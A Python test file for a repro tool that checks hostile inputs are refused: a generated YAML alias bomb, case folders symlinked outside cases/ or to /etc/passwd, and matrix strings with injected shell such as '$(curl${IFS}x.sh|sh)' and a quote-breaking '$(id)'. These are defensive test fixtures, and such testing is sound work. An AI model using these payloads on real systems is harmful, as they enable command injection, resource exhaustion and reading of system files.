"""Hostile input files: a YAML alias bomb, links out of cases/, shell and quote characters bound for a Dockerfile.
Each is refused in one short line, and a bad case does not stop `list` (nor `run`) for the others."""

import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from reprokit.model.case import load_case
from reprokit.model.matrix import load_matrix
from reprokit.model.schema import InputError

ROOT = Path(__file__).resolve().parents[1]
GOOD = ROOT / "cases" / "custom-op-unregistered-gemm" / "case.yaml"
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n"
    for i in range(8)
)


def corpus(tmp_path):
    shutil.copy(ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
    good = tmp_path / "cases" / "good-case"
    good.mkdir(parents=True)
    (good / "case.yaml").write_text(GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: good-case"))
    (good / "repro.py").write_text("print('hi')\n")
    return tmp_path / "cases"


def reprokit(tmp_path, *args):
    return subprocess.run(
        [sys.executable, "-m", "reprokit", "--root", str(tmp_path), *args],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(ROOT / "tools")},
        timeout=120,
    )


def test_an_alias_bomb_in_case_yaml_is_refused_in_one_short_line(tmp_path):
    assert len(BOMB) < 600
    cases = corpus(tmp_path)
    (cases / "bomb").mkdir()
    (cases / "bomb" / "case.yaml").write_text(BOMB)
    (cases / "bomb" / "repro.py").write_text("")
    with pytest.raises(InputError, match="aliases"):
        load_case(cases / "bomb" / "case.yaml")
    start = time.monotonic()
    proc = reprokit(tmp_path, "list")
    assert time.monotonic() - start < 60 and "MemoryError" not in proc.stderr
    assert proc.returncode == 2 and "good-case" in proc.stdout  # the other cases are still listed
    assert proc.stderr.count("\n") == 1 and len(proc.stderr) < 400 and "aliases" in proc.stderr
    assert reprokit(tmp_path, "validate").returncode != 0  # and validate fails on it


def test_a_case_folder_linked_from_outside_and_a_script_linked_to_etc_passwd_are_skipped(tmp_path):
    cases = corpus(tmp_path)
    outside = tmp_path / "elsewhere" / "linked-case"
    outside.mkdir(parents=True)
    (outside / "case.yaml").write_text(GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: linked-case"))
    (outside / "repro.py").write_text("print('from outside cases/')\n")
    (cases / "linked-case").symlink_to(outside, target_is_directory=True)
    leak = cases / "leak-case"
    leak.mkdir()
    (leak / "case.yaml").write_text(GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: leak-case"))
    (leak / "repro.py").symlink_to("/etc/passwd")
    proc = reprokit(tmp_path, "list")
    assert "good-case" in proc.stdout and "linked-case" not in proc.stdout and "leak-case" not in proc.stdout
    assert proc.returncode == 2 and proc.stderr.count("skipped") == 2


@pytest.mark.parametrize(
    "field, value",
    [
        ("index_url", "https://download.pytorch.org/whl/cpu;$(curl${IFS}x.sh|sh)"),
        ("description", 'CPU" org.evil="$(id)'),
    ],
)
def test_matrix_strings_bound_for_a_dockerfile_refuse_shell_and_quote_characters(tmp_path, field, value):
    matrix = yaml.safe_load((ROOT / "matrix.yaml").read_text())
    target = matrix["targets"]["cpu"]
    (target["pins"] if field == "index_url" else target)[field] = value
    (tmp_path / "matrix.yaml").write_text(yaml.safe_dump(matrix))
    with pytest.raises(InputError, match=field):
        load_matrix(tmp_path / "matrix.yaml")


def test_container_mode_fails_instead_of_falling_back_to_the_host_when_docker_does_not_answer(tmp_path):
    corpus(tmp_path)
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "reprokit",
            "--root",
            str(tmp_path),
            "run",
            "--container",
            "--target",
            "cpu",
            "--out",
            str(tmp_path / "out"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={
            "PYTHONPATH": str(ROOT / "tools"),
            "PATH": "/usr/bin:/bin",
            "DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock",
        },
    )
    assert proc.returncode == 3 and "no Docker engine answers" in proc.stderr  # the machine, not the input
    assert not (tmp_path / "out" / "results").exists()
